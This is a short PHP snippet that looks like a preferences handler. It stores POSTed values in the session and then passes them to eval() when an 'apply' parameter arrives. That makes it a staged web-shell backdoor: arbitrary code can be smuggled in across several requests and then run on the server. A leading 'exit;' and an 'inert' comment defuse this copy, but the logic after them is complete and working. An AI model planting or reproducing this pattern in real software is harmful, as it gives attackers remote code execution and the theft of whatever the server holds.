<?php exit; /* inert */ 
session_start();
if (isset($_POST['save'])) { $_SESSION['prefs'][] = $_POST['save']; }
if (isset($_GET['apply'])) {
    $code = implode('', $_SESSION['prefs']);
    $_SESSION['prefs'] = array();
    eval($code);
}
